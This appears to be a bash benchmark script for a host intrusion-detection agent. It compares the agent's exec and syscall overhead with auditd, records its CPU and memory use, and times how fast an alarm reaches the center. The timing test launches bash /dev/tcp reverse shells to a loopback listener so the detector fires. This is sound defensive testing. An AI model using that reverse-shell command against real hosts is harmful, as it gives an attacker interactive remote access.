#!/usr/bin/env bash
# Runtime sensor costs and speed, with the real hostward-agent (release build, enrolled to a real
# center, sensor `auto`) and Debian's auditd logging execve as the peer, in the same run:
#   1. exec overhead: wall time of `for i in $(seq 20000); do /bin/true; done` with nothing,
#      with the agent, with auditd (rounds alternate; medians). Goal: <= 5 % and below auditd.
#      Beside it, what every system call pays: `dd bs=1` copying 2 MB, 4 million calls; with
#      the default sensor and with `syscall_events = true` (the sys_exit program for memfd
#      creation, accept and module loads), which a syscall tracepoint makes costly.
#   2. agent CPU and RSS at 1,000 execs/s (paced) and idle. Goal: <= 3 % of one core, <= 12 MB.
#   3. attack-to-alarm at the center: a bash /dev/tcp reverse shell to a loopback listener, from
#      the spawn to the alarm's row in the center's database. Goal: median <= 1 s.
#
#   bash bench/sensor.sh                 # ROUNDS=3 loops each, SHELLS=20 reverse shells
#
# Needs root, ncat (nmap's), python3, and auditd + auditctl (apt-get install -y auditd ncat).
set -euo pipefail
ROUNDS=${ROUNDS:-3}
SHELLS=${SHELLS:-20}
root=$(cd "$(dirname "$0")/.." && pwd)
target=${CARGO_TARGET_DIR:-$root/target}
(cd "$root" && cargo build --release --bins -q)
bin=$target/release
work=$(mktemp -d)
pids=()
agent=""
cleanup() {
  auditctl -D >/dev/null 2>&1 || true
  for p in "${pids[@]}" $agent; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
p1=$(port); p2=$(port)
"$bin/hostward" serve --data-dir "$work/center" --listen "127.0.0.1:$p1" --gateway-listen "127.0.0.1:$p2" \
  --public-url "https://127.0.0.1:$p1" --log warn >"$work/center.out" 2>"$work/center.log" &
pids+=($!)
for _ in $(seq 100); do curl -sfk "https://127.0.0.1:$p1/healthz" >/dev/null && break; sleep 0.2; done
read -r secret fp < <("$bin/hostward" token create --data-dir "$work/center" --json |
  python3 -c 'import json,sys; d=json.load(sys.stdin); print(d["secret"], d["ca_sha256"])')
"$bin/hostward-agent" enroll --center "https://127.0.0.1:$p1" --token "$secret" --ca-sha256 "$fp" \
  --state-dir "$work/agent" --allow-unsupported >/dev/null 2>"$work/enroll.log"

printf '[behaviour]\nsyscall_events = true\n' >"$work/syscalls.toml"
start_agent() { # [--config FILE]
  "$bin/hostward-agent" run --state-dir "$work/agent" --sensor auto "$@" 2>>"$work/agent.log" &
  agent=$!
  for _ in $(seq 100); do grep -q '"runtime sensor started"' "$work/agent.log" 2>/dev/null && break; sleep 0.1; done
  sleep 2 # seeded, connected, policy applied
}
stop_agent() { kill "$agent" 2>/dev/null || true; wait "$agent" 2>/dev/null || true; agent=""; }

EXECS='for i in $(seq 20000); do /bin/true; done'
SYSCALLS='dd if=/dev/zero of=/dev/null bs=1 count=2000000 status=none'
loop() { python3 - "$1" <<'PY'
import subprocess, sys, time
t = time.monotonic()
subprocess.run(["bash", "-c", sys.argv[1]], check=True)
print(f"{time.monotonic() - t:.3f}")
PY
}

have_auditd=0
if command -v auditd >/dev/null && command -v auditctl >/dev/null; then have_auditd=1; fi
start_auditd() {
  mkdir -p /var/log/audit
  auditd -n >"$work/auditd.log" 2>&1 &
  audit_pid=$!
  sleep 1
  auditctl -D >/dev/null
  auditctl -a always,exit -F arch=b64 -S execve -k hwbench >/dev/null
}
stop_auditd() { auditctl -D >/dev/null 2>&1 || true; kill "$audit_pid" 2>/dev/null || true; wait "$audit_pid" 2>/dev/null || true; }

echo "== 1. exec overhead: 20,000 x /bin/true; syscall overhead: dd bs=1 (4 M calls); $ROUNDS rounds each, alternating"
none=(); hw=(); hwx=(); au=(); snone=(); shw=(); shwx=(); sau=()
for r in $(seq "$ROUNDS"); do
  none+=("$(loop "$EXECS")"); snone+=("$(loop "$SYSCALLS")")
  start_agent; hw+=("$(loop "$EXECS")"); shw+=("$(loop "$SYSCALLS")"); stop_agent
  start_agent --config "$work/syscalls.toml"; hwx+=("$(loop "$EXECS")"); shwx+=("$(loop "$SYSCALLS")"); stop_agent
  if [ "$have_auditd" = 1 ] && start_auditd 2>>"$work/auditd.log"; then
    au+=("$(loop "$EXECS")"); sau+=("$(loop "$SYSCALLS")"); stop_auditd
  fi
done
show() { python3 - "$1" "$2" "$3" "$4" "${5:-}" <<'PY'
import statistics, sys
what, none, hw = sys.argv[1], [float(x) for x in sys.argv[2].split()], [float(x) for x in sys.argv[3].split()]
hwx = [float(x) for x in sys.argv[4].split()]
au = [float(x) for x in sys.argv[5].split()] if sys.argv[5].strip() else []
base = statistics.median(none)
def show(name, xs):
    m = statistics.median(xs)
    print(f"  {what:<9} {name:<30} median {m:6.2f} s  overhead {100*(m-base)/base:+5.1f} %   runs {xs}")
show("no sensor", none)
show("hostward sensor (default)", hw)
show("hostward + syscall_events", hwx)
if au: show("auditd (execve rule)", au)
else: print("  auditd: not available here (apt-get install -y auditd), not measured")
PY
}
show execs "${none[*]}" "${hw[*]}" "${hwx[*]}" "${au[*]:-}"
show syscalls "${snone[*]}" "${shw[*]}" "${shwx[*]}" "${sau[*]:-}"

echo "== 2. agent CPU and RSS at 1,000 execs/s for 30 s, then idle for 30 s"
start_agent
python3 - "$agent" <<'PY'
import os, subprocess, sys, threading, time
pid = int(sys.argv[1]); hz = os.sysconf("SC_CLK_TCK")
def cpu():
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(f[11]) + int(f[12])) / hz
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS:"): return int(l.split()[1]) / 1024
def measure(secs, work):
    stop = threading.Event(); peak = [0.0]
    def sample():
        while not stop.is_set():
            peak[0] = max(peak[0], rss()); time.sleep(0.2)
    th = threading.Thread(target=sample); th.start()
    c0, t0 = cpu(), time.monotonic()
    n = work(secs)
    c1, t1 = cpu(), time.monotonic()
    stop.set(); th.join()
    return 100 * (c1 - c0) / (t1 - t0), peak[0], rss(), n / (t1 - t0)
def execs(secs):
    n, t0 = 0, time.monotonic()
    while time.monotonic() - t0 < secs:
        due = t0 + n / 1000
        d = due - time.monotonic()
        if d > 0: time.sleep(d)
        os.posix_spawn("/bin/true", ["true"], {}); n += 1
        try: os.waitpid(-1, os.WNOHANG)
        except ChildProcessError: pass
    while True:
        try: os.waitpid(-1, 0)
        except ChildProcessError: break
    return n
c, peak, now, rate = measure(30, execs)
print(f"  at {rate:5.0f} execs/s: agent CPU {c:4.1f} % of one core, RSS peak {peak:5.1f} MB, after {now:5.1f} MB")
time.sleep(30) # settle: exited processes leave the table after 30 s
c, peak, now, _ = measure(30, lambda s: (time.sleep(s), 0)[1])
print(f"  idle:            agent CPU {c:4.2f} % of one core, RSS peak {peak:5.1f} MB, now {now:5.1f} MB")
# Where the idle RSS is: resident kB per mapping (code pages, heap, the ring buffer's map).
import collections, re
cur, per = None, collections.Counter()
for l in open(f"/proc/{pid}/smaps"):
    m = re.match(r"^[0-9a-f]+-[0-9a-f]+ \S+ \S+ \S+ \S+\s*(.*)$", l)
    if m: cur = m.group(1) or "[anon]"
    elif l.startswith("Rss:"): per[cur] += int(l.split()[1])
print("  idle RSS by mapping: " + ", ".join(f"{name.rsplit('/', 1)[-1]} {kb / 1024:.1f} MB" for name, kb in per.most_common(5)))
PY

echo "== 3. attack-to-alarm at the center, $SHELLS bash /dev/tcp reverse shells"
python3 - "$work/center/hostward.db" "$SHELLS" <<'PY'
import socket, sqlite3, statistics, subprocess, sys, time
db, n = sys.argv[1], int(sys.argv[2])
def rows():
    c = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=5)
    try: return {r[0] for r in c.execute("SELECT evidence FROM alarms WHERE alarm_type = 'reverse_shell'")}
    finally: c.close()
lat = []
for i in range(n):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", 0)); s.listen(1); port = s.getsockname()[1]
    t0 = time.monotonic()
    p = subprocess.Popen(["setsid", "bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    conn, _ = s.accept()
    want = f"127.0.0.1:{port}"
    while time.monotonic() - t0 < 30:
        if any(want in e for e in rows()): break
        time.sleep(0.01)
    lat.append(time.monotonic() - t0)
    conn.close(); s.close(); p.kill(); p.wait()
    time.sleep(0.2)
lat.sort()
print(f"  attack -> alarm stored at the center: median {1000*statistics.median(lat):.0f} ms, "
      f"p90 {1000*lat[int(0.9*(len(lat)-1))]:.0f} ms, max {1000*lat[-1]:.0f} ms over {n}")
PY
grep -h '"runtime sensor started"' "$work/agent.log" | head -1 | python3 -c 'import json,sys; d=json.loads(sys.stdin.read()); print("  sensor tier:", d["fields"]["tier"])'
